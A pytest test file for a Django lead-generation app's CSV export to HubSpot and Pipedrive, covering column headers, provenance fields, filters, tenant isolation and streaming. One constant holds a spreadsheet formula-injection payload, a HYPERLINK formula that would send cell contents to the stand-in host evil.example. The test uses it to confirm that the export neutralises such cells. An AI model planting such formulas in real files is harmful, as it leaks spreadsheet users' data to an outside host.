"""The CRM export (issue 18, sources from issue 19): leads of a real nightly search as CSV in
HubSpot's and Pipedrive's import columns, each row saying where the person and the contact came
from; the leads list's filters; formula-safe cells; streamed in chunks with a bounded number of
queries; the dashboard and the API answer the same bytes; another organisation's leads never
appear and its slug answers 404."""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools

import pytest
from django.test import Client
from django.urls import reverse

from enrichment.models import ImportRun, ImportStatus, Role, Source
from leads import exports
from leads.models import Lead, LeadStatus
from leads.services import leads_approve, nightly_dispatch, search_run_execute
from organizations.models import APIKeyScope
from organizations.services import api_key_create
from tests.api.problems import field_errors

from .world import segment_for, world_build

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"{name}")'
HUBSPOT = [
    "First Name",
    "Last Name",
    "Email",
    "Phone Number",
    "Company Name",
    "Company Domain Name",
    "Job Title",
    "LeadPilot Registry ID",
    "LeadPilot Lead ID",
    "LeadPilot Lead Date",
    "LeadPilot Person Source",
    "LeadPilot Contact Source",
    "LeadPilot Verified On",
]
PIPEDRIVE = [
    "Person - Name",
    "Person - First name",
    "Person - Last name",
    "Person - Email",
    "Person - Phone",
    "Person - Job title",
    "Organization - Name",
    "Organization - Website",
    "Organization - LeadPilot registry ID",
    "Person - LeadPilot lead ID",
    "Person - LeadPilot lead date",
    "Person - LeadPilot person source",
    "Person - LeadPilot contact source",
    "Person - LeadPilot verified on",
]
_registers = itertools.count()


@pytest.fixture
def run_night(sandbox, prefix, django_capture_on_commit_callbacks):
    """run_night(tenant, size=.., hostile=False, cap=25) -> (world, segment, leads newest first):
    a world whose people are listed in a register with an imported file (company 0 named by a
    hostile formula if asked), served by the sandbox and searched by the real engine."""
    counter = itertools.count()

    def run(tenant, *, size=3, hostile=False, cap=25):
        world = world_build(prefix=f"{prefix}{next(counter)}e", size=size)
        register = Source.objects.create(
            code=f"reg-{next(_registers)}", name="Companies House", country="GB"
        )
        ImportRun.objects.create(
            source=register,
            file_name="BasicCompanyDataAsOneFile-2026-12-01.zip",
            file_hash="0" * 64,
            status=ImportStatus.SUCCEEDED,
            finished_at=dt.datetime(2026, 12, 2, tzinfo=dt.UTC),
        )
        Role.objects.filter(person__in=world.people).update(source=register)
        if hostile:
            company = world.companies[0]
            company.name = HOSTILE.format(name=company.name)
            company.save(update_fields=["name"])
        sandbox(world.domains)
        segment = segment_for(world, tenant.org, nightly_cap=cap)
        enqueued = []
        with django_capture_on_commit_callbacks(execute=True):
            nightly_dispatch(
                organization=tenant.org, run_date=dt.date(2026, 11, 26), enqueue=enqueued.append
            )
        (search_run,) = [r for r in enqueued if r.segment_id == segment.id]
        search_run_execute(organization=tenant.org, run_id=search_run.id)
        leads = list(Lead.objects.for_org(tenant.org).filter(segment=segment).order_by("-id"))
        assert len(leads) == size
        return world, segment, leads

    return run


@pytest.fixture
def two_orgs(run_night, tenant_a, tenant_b):
    _world, segment, a = run_night(tenant_a, size=3, hostile=True)
    _world_b, _segment_b, b = run_night(tenant_b, size=2)
    return segment, a, b


def page_url(org, **params):
    return reverse("leads:export", kwargs={"org_slug": org.slug}), params


def fetch(client, url, params=None):
    response = client.get(url, params or {})
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return response, body


def rows_of(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM, for Excel
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def by_header(body: bytes) -> list[dict[str, str]]:
    header, *rows = rows_of(body)
    return [dict(zip(header, row, strict=True)) for row in rows]


def key_client(tenant, scope=APIKeyScope.READ):
    _key, full = api_key_create(
        organization=tenant.org, actor=tenant.admin, name=f"export-{scope}", scope=scope
    )
    return Client(headers={"Authorization": f"Api-Key {full}"})


def api_url(org):
    return reverse("leads-api:lead-export", kwargs={"org_slug": org.slug})


def test_each_crm_gets_its_importers_headers(two_orgs, tenant_a):
    client = tenant_a.client_for(tenant_a.member)
    url = reverse("leads:export", kwargs={"org_slug": tenant_a.org.slug})
    for crm, expected in (("hubspot", HUBSPOT), ("pipedrive", PIPEDRIVE)):
        response, body = fetch(client, url, {"crm": crm})
        assert response.status_code == 200 and response.streaming
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"] == f'attachment; filename="alpha-leads-{crm}.csv"'
        header, *rows = rows_of(body)
        assert header == expected
        assert len(rows) == 3 and all(len(row) == len(expected) for row in rows)


def test_a_row_says_where_the_person_and_the_contact_came_from(two_orgs, tenant_a):
    _segment, a, _b = two_orgs
    lead = next(lead for lead in a if not lead.company_name.startswith("="))
    client = tenant_a.client_for(tenant_a.member)
    _response, body = fetch(client, *page_url(tenant_a.org, crm="hubspot"))
    (row,) = [r for r in by_header(body) if r["LeadPilot Lead ID"] == str(lead.id)]
    person = lead.person_snapshot
    assert row["First Name"] == person["first_name"] and row["Last Name"] == person["last_name"]
    assert row["Email"] == lead.contact_value and row["Phone Number"] == ""
    assert row["Company Name"] == lead.company_name
    assert row["Company Domain Name"] == lead.company_snapshot["website_domain"]
    assert row["Job Title"] == "CEO / managing director"
    company = lead.company_snapshot
    assert row["LeadPilot Registry ID"] == f"GB {company['registry_id']}"
    tz = tenant_a.org.tz
    assert row["LeadPilot Lead Date"] == lead.created_at.astimezone(tz).date().isoformat()
    role = Role.objects.get(person_id=lead.person_id, company_id=lead.company_id)
    started = ImportRun.objects.get(source=role.source)
    assert row["LeadPilot Person Source"] == (
        "Listed as CEO / managing director in Companies House "
        f"(file BasicCompanyDataAsOneFile-2026-12-01.zip), imported {started.started_at:%d %b %Y}."
    )
    source = row["LeadPilot Contact Source"]
    assert f"The e-mail address {lead.contact_value} was built from" in source
    assert "accepted it on" in source and "so the mailbox exists" in source
    assert row["LeadPilot Verified On"] == lead.verified_at.astimezone(tz).date().isoformat()

    _response, body = fetch(client, *page_url(tenant_a.org, crm="pipedrive"))
    (row,) = [r for r in by_header(body) if r["Person - LeadPilot lead ID"] == str(lead.id)]
    assert row["Person - Name"] == lead.person_name
    assert row["Person - Email"] == lead.contact_value
    assert row["Organization - Name"] == lead.company_name
    assert row["Person - LeadPilot person source"].startswith("Listed as CEO / managing director")
    assert row["Person - LeadPilot contact source"] == source


def test_the_lists_filters_apply(two_orgs, tenant_a):
    segment, a, _b = two_orgs
    leads_approve(organization=tenant_a.org, lead_ids=[a[1].id], approved_by=None)
    client = tenant_a.client_for(tenant_a.member)

    def ids(**params):
        response, body = fetch(client, *page_url(tenant_a.org, crm="hubspot", **params))
        assert response.status_code == 200
        return [int(r["LeadPilot Lead ID"]) for r in by_header(body)]

    assert ids() == [lead.id for lead in a]  # newest first, like the list
    assert ids(status=LeadStatus.APPROVED) == [a[1].id]
    assert ids(status=LeadStatus.PENDING_APPROVAL) == [a[0].id, a[2].id]
    assert ids(q=a[2].person_name) == [a[2].id]
    assert ids(q=a[2].company_name.upper()) == [a[2].id]
    assert ids(segment=segment.id) == [lead.id for lead in a]
    assert ids(segment=segment.id + 1000) == []
    assert ids(status=LeadStatus.REJECTED) == []

    api_client = key_client(tenant_a)
    for params, field in (
        ({"crm": "salesforce"}, "crm"),
        ({}, "crm"),
        ({"crm": "hubspot", "status": "nope"}, "status"),
        ({"crm": "hubspot", "segment": "x"}, "segment"),
    ):
        response = client.get(page_url(tenant_a.org)[0], params)
        assert response.status_code == 400 and field in response.content.decode(), params
        api = api_client.get(api_url(tenant_a.org), params)
        assert list(field_errors(api)) == [field], params


def test_a_hostile_company_name_is_neutralised(two_orgs, tenant_a):
    _segment, a, _b = two_orgs
    (hostile,) = [lead for lead in a if lead.company_name.startswith("=HYPERLINK(")]
    client = tenant_a.client_for(tenant_a.member)
    for crm, column, lead_id in (
        ("hubspot", "Company Name", "LeadPilot Lead ID"),
        ("pipedrive", "Organization - Name", "Person - LeadPilot lead ID"),
    ):
        _response, body = fetch(client, *page_url(tenant_a.org, crm=crm))
        (row,) = [r for r in by_header(body) if r[lead_id] == str(hostile.id)]
        assert row[column] == "'" + hostile.company_name
        for values in rows_of(body)[1:]:
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in values)


def test_another_organisations_leads_never_appear_and_its_slug_answers_404(
    two_orgs, tenant_a, tenant_b
):
    _segment, a, b = two_orgs
    client = tenant_a.client_for(tenant_a.owner)
    api = key_client(tenant_a)
    for crm in exports.CRMS:
        _response, body = fetch(client, *page_url(tenant_a.org, crm=crm))
        text = body.decode("utf-8-sig")
        ids = {row[8 if crm == "hubspot" else 9] for row in rows_of(body)[1:]}
        assert ids == {str(lead.id) for lead in a}
        for lead in b:  # (the worlds share first names: B's are told by company and address)
            assert lead.company_name not in text and lead.contact_value not in text
        # B's slug: 404 for A's people and A's key alike, as for a slug that does not exist.
        assert client.get(*page_url(tenant_b.org, crm=crm)).status_code == 404
        assert api.get(api_url(tenant_b.org), {"crm": crm}).status_code == 404
        assert client.get(api_url(tenant_b.org), {"crm": crm}).status_code == 404
    # B's segment under A's slug selects nothing of B's.
    b_segment = Lead.objects.for_org(tenant_b.org).get(pk=b[0].id).segment_id
    _response, body = fetch(client, *page_url(tenant_a.org, crm="hubspot", segment=b_segment))
    assert rows_of(body)[1:] == []


def test_the_api_and_the_page_answer_the_same_bytes(two_orgs, tenant_a):
    _segment, a, _b = two_orgs
    leads_approve(organization=tenant_a.org, lead_ids=[a[2].id], approved_by=None)
    page_client = tenant_a.client_for(tenant_a.member)
    api_client = key_client(tenant_a, APIKeyScope.READ)  # a read key is enough
    for params in (
        {"crm": "hubspot"},
        {"crm": "pipedrive", "status": "approved"},
        {"crm": "pipedrive", "q": "trading"},
    ):
        page, page_body = fetch(page_client, page_url(tenant_a.org)[0], params)
        api, api_body = fetch(api_client, api_url(tenant_a.org), params)
        assert page.status_code == api.status_code == 200
        assert page_body == api_body and len(rows_of(page_body)) > 1
        for header in ("Content-Type", "Content-Disposition"):
            assert page[header] == api[header]
    # A CSV client asking for CSV gets it (the JSON-only renderers would have said 406).
    csv_api = api_client.get(api_url(tenant_a.org), {"crm": "hubspot"}, HTTP_ACCEPT="text/csv")
    assert csv_api.status_code == 200


def test_the_dashboard_offers_the_export_with_the_current_filters(two_orgs, tenant_a):
    client = tenant_a.client_for(tenant_a.member)
    body = client.get(
        reverse("leads:list", kwargs={"org_slug": tenant_a.org.slug}),
        {"status": "approved", "q": "Trading"},
    ).content.decode()
    export = reverse("leads:export", kwargs={"org_slug": tenant_a.org.slug})
    assert f'action="{export}"' in body
    assert '<input type="hidden" name="status" value="approved">' in body
    assert '<input type="hidden" name="q" value="Trading">' in body
    assert '<option value="hubspot">HubSpot</option>' in body
    assert '<option value="pipedrive">Pipedrive</option>' in body


def test_fifty_leads_stream_in_chunks_with_a_bounded_number_of_queries(
    run_night, tenant_a, tenant_b, django_assert_max_num_queries, monkeypatch
):
    tenant_a.org.monthly_lead_quota = 100
    tenant_a.org.save(update_fields=["monthly_lead_quota"])
    _world, _segment, a = run_night(tenant_a, size=50, cap=50)
    run_night(tenant_b, size=2)
    client = tenant_a.client_for(tenant_a.member)
    with django_assert_max_num_queries(12):
        _response, body = fetch(client, *page_url(tenant_a.org, crm="hubspot"))
    assert [int(r["LeadPilot Lead ID"]) for r in by_header(body)] == [lead.id for lead in a]

    # Chunks of 20: the same file from three reads of leads (and never all 50 at once).
    monkeypatch.setattr(exports, "CHUNK", 20)
    with django_assert_max_num_queries(16):
        _response, chunked = fetch(client, *page_url(tenant_a.org, crm="hubspot"))
    assert chunked == body
